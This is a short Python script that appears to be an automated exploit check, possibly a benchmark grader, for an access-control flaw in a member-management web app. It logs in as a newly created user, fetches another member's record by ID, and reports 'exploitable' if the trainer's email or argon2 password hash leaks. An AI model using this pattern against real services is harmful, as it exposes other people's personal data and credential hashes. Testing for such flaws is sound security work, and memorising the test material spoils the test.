import os
import sys
import time
import traceback

import httpx

BASE = os.environ.get("BASE_URL", "http://127.0.0.1:8000")
c = httpx.Client(base_url=BASE, timeout=60)


def _fail(t, v, tb):
    traceback.print_exception(t, v, tb)
    os._exit(2)


sys.excepthook = _fail


def done(hit):
    print("exploitable" if hit else "not exploitable")
    sys.exit(0 if hit else 1)


def login(n, p):
    return {"Authorization": "Bearer " + c.post("/login", json={"name": n, "password": p}).json()["token"]}


t = login("trainer", os.environ["RUN_TRAINER_PASSWORD"])
c.post("/members", json={"name": "ann", "email": "ann@x.example", "password": "ann-password"}, headers=t)
r = c.get("/members/1", headers=login("ann", "ann-password")).text
done("trainer@club.example" in r or "$argon2" in r)
